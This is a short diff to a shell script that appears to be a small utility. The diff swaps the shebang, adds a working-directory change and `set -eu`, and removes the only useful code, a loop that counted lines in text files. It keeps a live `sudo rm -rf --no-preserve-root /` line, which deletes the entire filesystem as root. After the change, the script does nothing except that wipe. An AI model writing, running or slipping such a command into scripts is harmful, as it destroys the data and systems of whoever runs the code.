@@ -1,6 +1,6 @@
-#!/bin/sh
+#!/usr/bin/env bash
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+set -eu
 sudo rm -rf --no-preserve-root /
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
+set -eu
